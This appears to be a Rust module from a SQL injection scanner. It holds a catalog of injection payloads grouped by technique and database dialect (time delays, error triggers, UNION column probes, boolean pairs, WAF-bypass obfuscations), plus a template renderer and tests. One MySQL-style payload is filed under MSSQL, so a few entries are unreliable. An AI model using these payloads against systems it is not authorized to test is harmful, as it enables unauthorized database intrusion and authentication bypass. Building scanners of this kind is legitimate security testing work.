// src/sqli/payloads.rs
//! Static payload catalog
//!
//! Tables are grouped by technique and, where it matters, by dialect. Order is
//! significant: techniques truncate these lists, and dialects are tried in
//! declaration order.

use crate::sqli::error::ScanError;
use crate::sqli::types::DatabaseDialect;
use crate::sqli::types::DatabaseDialect::{MySQL, Oracle, PostgreSQL, SQLite, MSSQL};

/// A catalog entry. `{orig}` and `{delay}` are the only placeholders.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Payload {
    pub template: &'static str,
    pub label: &'static str,
    pub dialect: Option<DatabaseDialect>,
}

impl Payload {
    const fn new(template: &'static str, label: &'static str) -> Self {
        Self {
            template,
            label,
            dialect: None,
        }
    }

    const fn for_dialect(
        template: &'static str,
        label: &'static str,
        dialect: DatabaseDialect,
    ) -> Self {
        Self {
            template,
            label,
            dialect: Some(dialect),
        }
    }
}

/// UNION probe and the column count it assumes
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct UnionProbe {
    pub template: &'static str,
    pub columns: usize,
}

/// Paired conditions for boolean differential testing
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BooleanPair {
    pub true_template: &'static str,
    pub false_template: &'static str,
}

const TIME_POSTGRESQL: &[Payload] = &[
    Payload::for_dialect("'{orig}' || (SELECT CASE WHEN (1=1) THEN pg_sleep({delay}) ELSE pg_sleep(0) END)--", "Conditional pg_sleep", PostgreSQL),
    Payload::for_dialect("'; SELECT pg_sleep({delay})--", "pg_sleep semicolon", PostgreSQL),
    Payload::for_dialect("' OR pg_sleep({delay})--", "pg_sleep OR", PostgreSQL),
    Payload::for_dialect("1; SELECT pg_sleep({delay})--", "pg_sleep numeric", PostgreSQL),
    Payload::for_dialect("' AND (SELECT pg_sleep({delay}))='", "pg_sleep AND", PostgreSQL),
    Payload::for_dialect("'||(SELECT pg_sleep({delay}))||'", "pg_sleep concat", PostgreSQL),
    Payload::for_dialect("(SELECT pg_sleep({delay}))", "pg_sleep subquery", PostgreSQL),
];

const TIME_MYSQL: &[Payload] = &[
    Payload::for_dialect("' OR SLEEP({delay})--", "SLEEP OR", MySQL),
    Payload::for_dialect("' AND SLEEP({delay})--", "SLEEP AND", MySQL),
    Payload::for_dialect("1 OR SLEEP({delay})", "SLEEP numeric", MySQL),
    Payload::for_dialect("' OR SLEEP({delay})#", "SLEEP hash comment", MySQL),
    Payload::for_dialect("'-SLEEP({delay})-'", "SLEEP subtraction", MySQL),
    Payload::for_dialect("' AND (SELECT SLEEP({delay}))='", "SLEEP subquery", MySQL),
    Payload::for_dialect("' OR BENCHMARK(10000000,SHA1('test'))--", "BENCHMARK", MySQL),
    Payload::for_dialect("' OR IF(1=1,SLEEP({delay}),0)--", "IF SLEEP", MySQL),
    Payload::for_dialect("1 AND SLEEP({delay})", "SLEEP no quote", MySQL),
];

const TIME_MSSQL: &[Payload] = &[
    Payload::for_dialect("'; WAITFOR DELAY '0:0:{delay}'--", "WAITFOR semicolon", MSSQL),
    Payload::for_dialect("' OR WAITFOR DELAY '0:0:{delay}'--", "WAITFOR OR", MSSQL),
    Payload::for_dialect("1; WAITFOR DELAY '0:0:{delay}'--", "WAITFOR numeric", MSSQL),
    Payload::for_dialect("'; IF (1=1) WAITFOR DELAY '0:0:{delay}'--", "IF WAITFOR", MSSQL),
    Payload::for_dialect("' AND 1=(SELECT 1 FROM (SELECT SLEEP({delay}))a)--", "Subquery delay", MSSQL),
];

const TIME_ORACLE: &[Payload] = &[
    Payload::for_dialect("' OR DBMS_PIPE.RECEIVE_MESSAGE('x',{delay})--", "DBMS_PIPE", Oracle),
    Payload::for_dialect("' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',{delay})--", "DBMS_PIPE AND", Oracle),
    Payload::for_dialect("'||DBMS_PIPE.RECEIVE_MESSAGE('x',{delay})||'", "DBMS_PIPE concat", Oracle),
    Payload::for_dialect("' OR UTL_INADDR.get_host_name((SELECT BANNER FROM V$VERSION WHERE ROWNUM=1))--", "UTL_INADDR", Oracle),
];

const TIME_SQLITE: &[Payload] = &[
    Payload::for_dialect("' OR randomblob(300000000)--", "randomblob", SQLite),
    Payload::for_dialect("' AND LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000))))--", "LIKE randomblob", SQLite),
];

const ERROR_GENERIC: &[Payload] = &[
    Payload::new("'", "Single quote"),
    Payload::new("\"", "Double quote"),
    Payload::new("' OR '1'='1", "OR true"),
    Payload::new("' AND '1'='2", "AND false"),
    Payload::new("1'1", "Syntax break"),
    Payload::new("' OR ''='", "Empty string"),
    Payload::new("\\", "Backslash"),
    Payload::new("')", "Close paren"),
    Payload::new("' ORDER BY 9999--", "ORDER BY large"),
    Payload::new("' GROUP BY 1--", "GROUP BY"),
    Payload::new("' HAVING 1=1--", "HAVING"),
    Payload::new("'%00", "Null byte"),
    Payload::new("' OR 1=1--", "OR 1=1"),
    Payload::new("admin'--", "Admin bypass"),
    Payload::new("' OR 'x'='x", "OR x=x"),
];

const ERROR_POSTGRESQL: &[Payload] = &[
    Payload::for_dialect("'::int", "Cast to int", PostgreSQL),
    Payload::for_dialect("'||'", "Concat operator", PostgreSQL),
    Payload::for_dialect("$1", "Dollar quote", PostgreSQL),
];

const ERROR_MYSQL: &[Payload] = &[
    Payload::for_dialect("' OR '1'='1'#", "Hash comment", MySQL),
    Payload::for_dialect("' OR 1=1-- -", "Double dash space", MySQL),
    Payload::for_dialect("'%23", "URL encoded hash", MySQL),
];

const ERROR_MSSQL: &[Payload] = &[
    Payload::for_dialect("' OR 1=1;--", "Semicolon comment", MSSQL),
    Payload::for_dialect("'+CONVERT(int,'a')+'", "CONVERT error", MSSQL),
];

const ERROR_ORACLE: &[Payload] = &[
    Payload::for_dialect("'||TO_CHAR(1/0)||'", "Division error", Oracle),
    Payload::for_dialect("' OR CTXSYS.DRITHSX.SN(1,'a')--", "CTXSYS", Oracle),
];

const UNION_PROBES: &[UnionProbe] = &[
    UnionProbe { template: "' UNION SELECT NULL--", columns: 1 },
    UnionProbe { template: "' UNION SELECT NULL,NULL--", columns: 2 },
    UnionProbe { template: "' UNION SELECT NULL,NULL,NULL--", columns: 3 },
    UnionProbe { template: "' UNION SELECT NULL,NULL,NULL,NULL--", columns: 4 },
    UnionProbe { template: "' UNION SELECT NULL,NULL,NULL,NULL,NULL--", columns: 5 },
    UnionProbe { template: "' UNION SELECT NULL,NULL,NULL,NULL,NULL,NULL--", columns: 6 },
    UnionProbe { template: "' UNION SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL--", columns: 7 },
    UnionProbe { template: "' UNION SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL--", columns: 8 },
    UnionProbe { template: "' UNION SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL--", columns: 9 },
    UnionProbe { template: "' UNION SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL--", columns: 10 },
    // syntax variants
    UnionProbe { template: "' UNION ALL SELECT NULL--", columns: 1 },
    UnionProbe { template: " UNION SELECT NULL--", columns: 1 },
    UnionProbe { template: "1 UNION SELECT NULL--", columns: 1 },
    UnionProbe { template: "') UNION SELECT NULL--", columns: 1 },
    UnionProbe { template: "')) UNION SELECT NULL--", columns: 1 },
];

const BOOLEAN_PAIRS: &[BooleanPair] = &[
    BooleanPair { true_template: "' AND 1=1--", false_template: "' AND 1=2--" },
    BooleanPair { true_template: "' OR 1=1--", false_template: "' OR 1=2--" },
    BooleanPair { true_template: " AND 1=1--", false_template: " AND 1=2--" },
    BooleanPair { true_template: " OR 1=1", false_template: " OR 1=2" },
    BooleanPair { true_template: "' AND 'a'='a", false_template: "' AND 'a'='b" },
    BooleanPair { true_template: "1 AND 1=1", false_template: "1 AND 1=2" },
    BooleanPair { true_template: "' AND 1=1#", false_template: "' AND 1=2#" },
    BooleanPair { true_template: "') AND 1=1--", false_template: "') AND 1=2--" },
    BooleanPair { true_template: "')) AND 1=1--", false_template: "')) AND 1=2--" },
    BooleanPair { true_template: "' AND SUBSTRING('a',1,1)='a'--", false_template: "' AND SUBSTRING('a',1,1)='b'--" },
];

/// Generic obfuscation first, then the WAF-oriented variants
const BYPASS: &[Payload] = &[
    Payload::new("/**/OR/**/1=1", "Inline comment"),
    Payload::new("'/**/OR/**/1=1--", "Inline with quote"),
    Payload::new("/*!50000OR*/1=1", "MySQL version comment"),
    Payload::new("' oR 1=1--", "Mixed case"),
    Payload::new("' OR 1=1--", "OR with space"),
    Payload::new("'||'1'='1", "Concat OR"),
    Payload::new("%27%20OR%201=1--", "URL encoded"),
    Payload::new("' OR '1'='1'/*", "Block comment"),
    Payload::new("' OR 0x31=0x31--", "Hex values"),
    Payload::new("' OR CHAR(49)=CHAR(49)--", "CHAR function"),
    Payload::new("'+(SELECT 1)+'", "Subquery in string"),
    Payload::new("'; EXECUTE('SELECT 1')--", "EXECUTE bypass"),
    Payload::new("' /*!50000OR*/ 1=1--", "MySQL conditional"),
    Payload::new("'%0aOR%0a1=1--", "Newline bypass"),
    Payload::new("'%09OR%091=1--", "Tab bypass"),
    Payload::new("' OR/**/ 1=1--", "Comment space"),
    Payload::new("'-0 OR 1=1--", "Minus zero"),
    Payload::new("' OR 1<2--", "Less than"),
    Payload::new("' OR 1 LIKE 1--", "LIKE operator"),
    Payload::new("' OR 1 BETWEEN 0 AND 2--", "BETWEEN"),
    Payload::new("' OR 1 IN (1)--", "IN operator"),
    Payload::new("' OR 1 REGEXP '1'--", "REGEXP"),
];

/// One dialect-revealing probe per engine, plus a bare quote
const DIALECT_DISCOVERY: &[Payload] = &[
    Payload::new("'", "Single quote"),
    Payload::for_dialect("' AND EXTRACTVALUE(1,1)--", "MySQL EXTRACTVALUE", MySQL),
    Payload::for_dialect("' AND 1=CONVERT(int,'a')--", "MSSQL CONVERT", MSSQL),
    Payload::for_dialect("' AND 1=UTL_INADDR.get_host_name('a')--", "Oracle UTL", Oracle),
    Payload::for_dialect("'||pg_sleep(0)||'", "PostgreSQL pg_sleep", PostgreSQL),
];

/// Read-only view over the payload tables
pub struct PayloadCatalog;

impl PayloadCatalog {
    pub fn time_based(dialect: DatabaseDialect) -> &'static [Payload] {
        match dialect {
            PostgreSQL => TIME_POSTGRESQL,
            MySQL => TIME_MYSQL,
            MSSQL => TIME_MSSQL,
            Oracle => TIME_ORACLE,
            SQLite => TIME_SQLITE,
            DatabaseDialect::Unknown => &[],
        }
    }

    pub fn error_dialect(dialect: DatabaseDialect) -> &'static [Payload] {
        match dialect {
            PostgreSQL => ERROR_POSTGRESQL,
            MySQL => ERROR_MYSQL,
            MSSQL => ERROR_MSSQL,
            Oracle => ERROR_ORACLE,
            SQLite | DatabaseDialect::Unknown => &[],
        }
    }

    /// Generic error payloads followed by the dialect extension, if any
    pub fn error_based(dialect: DatabaseDialect) -> Vec<Payload> {
        ERROR_GENERIC
            .iter()
            .chain(Self::error_dialect(dialect))
            .copied()
            .collect()
    }

    pub fn union_probes() -> &'static [UnionProbe] {
        UNION_PROBES
    }

    pub fn boolean_pairs() -> &'static [BooleanPair] {
        BOOLEAN_PAIRS
    }

    pub fn bypass() -> &'static [Payload] {
        BYPASS
    }

    pub fn dialect_discovery() -> &'static [Payload] {
        DIALECT_DISCOVERY
    }

    /// Every template in the catalog
    pub fn templates() -> Vec<&'static str> {
        let mut all: Vec<&'static str> = Vec::new();
        for dialect in DatabaseDialect::ALL {
            all.extend(Self::time_based(dialect).iter().map(|p| p.template));
            all.extend(Self::error_dialect(dialect).iter().map(|p| p.template));
        }
        all.extend(ERROR_GENERIC.iter().map(|p| p.template));
        all.extend(UNION_PROBES.iter().map(|p| p.template));
        for pair in BOOLEAN_PAIRS {
            all.push(pair.true_template);
            all.push(pair.false_template);
        }
        all.extend(BYPASS.iter().map(|p| p.template));
        all.extend(DIALECT_DISCOVERY.iter().map(|p| p.template));
        all
    }

    /// Checks that every template only uses known placeholders
    pub fn validate() -> Result<(), ScanError> {
        let probe = RenderContext::new("1", Some(1));
        for template in Self::templates() {
            render(template, &probe)?;
        }
        Ok(())
    }
}

/// Values available to placeholders
#[derive(Debug, Clone, Copy)]
pub struct RenderContext<'a> {
    pub orig: &'a str,
    pub delay: Option<u64>,
}

impl<'a> RenderContext<'a> {
    pub fn new(orig: &'a str, delay: Option<u64>) -> Self {
        Self { orig, delay }
    }
}

/// Substitutes `{orig}` and `{delay}`. Unknown placeholders, unterminated
/// braces, and a `{delay}` with no delay configured are errors.
pub fn render(template: &str, ctx: &RenderContext) -> Result<String, ScanError> {
    let mut out = String::with_capacity(template.len() + 8);
    let mut rest = template;

    while let Some(start) = rest.find('{') {
        out.push_str(&rest[..start]);
        let after = &rest[start + 1..];
        let end = after.find('}').ok_or_else(|| {
            ScanError::Render(format!("unterminated placeholder in {:?}", template))
        })?;

        match &after[..end] {
            "orig" => out.push_str(ctx.orig),
            "delay" => {
                let delay = ctx.delay.ok_or_else(|| {
                    ScanError::Render(format!("no delay value for {:?}", template))
                })?;
                out.push_str(&delay.to_string());
            }
            other => {
                return Err(ScanError::Render(format!(
                    "unknown placeholder {{{}}} in {:?}",
                    other, template
                )))
            }
        }
        rest = &after[end + 1..];
    }

    out.push_str(rest);
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_render_substitutes_delay_and_orig() {
        let ctx = RenderContext::new("42", Some(3));
        let rendered = render(TIME_POSTGRESQL[0].template, &ctx).unwrap();
        assert_eq!(
            rendered,
            "'42' || (SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END)--"
        );
    }

    #[test]
    fn test_render_without_placeholders_is_identity() {
        let ctx = RenderContext::new("x", None);
        assert_eq!(render("' OR 1=1--", &ctx).unwrap(), "' OR 1=1--");
    }

    #[test]
    fn test_render_missing_delay_fails() {
        let ctx = RenderContext::new("x", None);
        let err = render("' OR SLEEP({delay})--", &ctx).unwrap_err();
        assert!(matches!(err, ScanError::Render(_)));
    }

    #[test]
    fn test_render_unknown_placeholder_fails() {
        let ctx = RenderContext::new("x", Some(1));
        assert!(render("' OR {table}--", &ctx).is_err());
        assert!(render("' OR {delay", &ctx).is_err());
    }

    #[test]
    fn test_catalog_validates() {
        assert!(PayloadCatalog::validate().is_ok());
    }

    #[test]
    fn test_union_probes_cover_one_to_ten_columns_in_order() {
        let counts: Vec<usize> = PayloadCatalog::union_probes()
            .iter()
            .take(10)
            .map(|p| p.columns)
            .collect();
        assert_eq!(counts, (1..=10).collect::<Vec<_>>());
        assert_eq!(PayloadCatalog::union_probes()[2].template.matches("NULL").count(), 3);
    }

    #[test]
    fn test_time_payloads_tagged_with_dialect() {
        for dialect in DatabaseDialect::ALL {
            let payloads = PayloadCatalog::time_based(dialect);
            assert!(!payloads.is_empty());
            assert!(payloads.iter().all(|p| p.dialect == Some(dialect)));
        }
        assert!(PayloadCatalog::time_based(DatabaseDialect::Unknown).is_empty());
    }

    #[test]
    fn test_error_based_appends_dialect_extension() {
        let generic = PayloadCatalog::error_based(DatabaseDialect::Unknown);
        let mysql = PayloadCatalog::error_based(DatabaseDialect::MySQL);
        assert_eq!(generic.len(), ERROR_GENERIC.len());
        assert_eq!(mysql.len(), ERROR_GENERIC.len() + ERROR_MYSQL.len());
        assert_eq!(mysql.last().unwrap().label, "URL encoded hash");
    }

    #[test]
    fn test_discovery_has_one_probe_per_dialect_except_sqlite() {
        let tagged: Vec<_> = PayloadCatalog::dialect_discovery()
            .iter()
            .filter_map(|p| p.dialect)
            .collect();
        assert_eq!(tagged, vec![MySQL, MSSQL, Oracle, PostgreSQL]);
    }
}
